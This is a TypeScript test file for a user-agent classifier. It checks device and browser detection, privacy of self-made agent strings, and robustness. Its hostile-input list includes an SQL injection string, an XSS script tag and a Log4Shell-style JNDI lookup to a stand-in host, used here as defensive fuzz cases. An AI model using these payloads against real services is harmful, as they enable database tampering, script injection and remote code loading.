import { describe, expect, test } from "bun:test";
import fc from "fast-check";
import { createAgentClassifier } from "../../../src/features/scans/agents.ts";
import { DESKTOP, PHONE } from "../../scenario.ts";
import { REAL_AGENTS } from "./real-agents.ts";

const classify = createAgentClassifier();

/** The browsers and systems of real agents: nothing else of an agent may be stored. */
const NAMES = new Set(REAL_AGENTS.flatMap(({ agent }) => [classify(agent).browser, classify(agent).system]));

test.each(REAL_AGENTS.map(({ what, ...real }) => [what, real] as const))(
  "%s",
  (_what, { agent, device, bot }) => {
    expect(classify(agent)).toMatchObject({ device, bot });
  },
);

test("the table has many agents of each class", () => {
  expect(REAL_AGENTS.length).toBeGreaterThan(80);
});

test("system and browser are named", () => {
  expect(classify(PHONE)).toEqual({ device: "mobile", system: "iOS", browser: "Safari", bot: null });
  expect(classify(DESKTOP)).toEqual({ device: "desktop", system: "Linux", browser: "Chrome", bot: null });
});

test("a missing agent is a tool", () => {
  expect(classify(null)).toEqual({ device: "bot", system: null, browser: null, bot: "tool" });
  expect(classify(null)).toEqual(classify(""));
});

test("the same agent has the same class again, also with blanks around it", () => {
  for (const { agent } of REAL_AGENTS.slice(0, 20)) {
    expect(classify(agent)).toEqual(classify(`  ${agent} `));
    expect(classify(agent)).toEqual(createAgentClassifier()(agent));
  }
});

describe("an agent's own text is never stored", () => {
  const selfMade = [
    "Annas Telefon/1.0 (Anna Muster; +43 660 1234567)",
    "anna.muster@example.org/1.0 (private)",
    "AnnasApp/2.1 build4711",
    "Mozilla/5.0 (Linux; Android 14; Annas Telefon) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Mobile Safari/537.36",
    "Anna/1 (Anna/2) Anna/3 (Anna",
  ];
  test.each(selfMade)("%s", (agent) => {
    const { system, browser } = classify(agent);
    expect(`${system} ${browser}`).not.toMatch(/anna/i);
    expect(`${system} ${browser}`).not.toMatch(/\d{3}/);
  });

  test("browser and system of any agent are known names or null", () => {
    const word = fc.stringMatching(/^[A-Za-z]{1,8}$/);
    const agent = fc
      .tuple(word, word, word, fc.nat(999))
      .chain(([a, b, c, n]) =>
        fc.constantFrom(`x${a}q/${n}.0 (${b}) ${c}`, `x${a}q ${b}/${n} `, `x${a}q/${n} ${b}/${n} (${c})`),
      );
    fc.assert(
      fc.property(agent, (text) => {
        const { system, browser } = classify(text);
        expect([...NAMES, null]).toContain(browser);
        expect([...NAMES, null]).toContain(system);
      }),
      { seed: 121, numRuns: 500 },
    );
  });
});

describe("a hostile agent", () => {
  const hostile = [
    "\u0000",
    "\u0000\u0001\u0002\uffff",
    "💥".repeat(200),
    "'; drop table scans; --",
    "<script>alert(1)</script>",
    "%24{jndi:ldap://evil.example/a}",
    "__proto__",
    "constructor",
    "Mozilla/5.0 (",
    "Mozilla/5.0 ((((((((((((((((((((((((((((((",
    "/",
    "///// (",
    "Android ".repeat(60),
    "Version/".repeat(60),
    "Windows NT ".repeat(45),
    "a".repeat(100_000),
    `${PHONE} ${"x".repeat(100_000)}`,
    " ".repeat(100_000),
  ];
  test.each(hostile)("is classified like any other: %.40j", (agent) => {
    const { device, browser, system } = classify(agent);
    expect(["mobile", "tablet", "desktop", "bot", "other"]).toContain(device);
    expect((browser ?? "").length + (system ?? "").length).toBeLessThan(60);
  });

  test("with an endless tail is classified by its head", () => {
    expect(classify(`${PHONE} ${"x".repeat(100_000)}`)).toEqual(classify(PHONE));
  });

  test("of 100 KB is not cached whole: memory stays flat", () => {
    const fresh = createAgentClassifier();
    const flood = (from: number, to: number) => {
      for (let i = from; i < to; i++)
        fresh(`agent ${i} ${Buffer.alloc(100_000, 97 + (i % 26)).toString("latin1")}`);
      Bun.gc(true);
      return process.memoryUsage.rss();
    };
    const before = flood(0, 200);
    // 150 MB of agents have gone by when this returns.
    expect((flood(200, 1_700) - before) / 2 ** 20).toBeLessThan(75);
  });
});
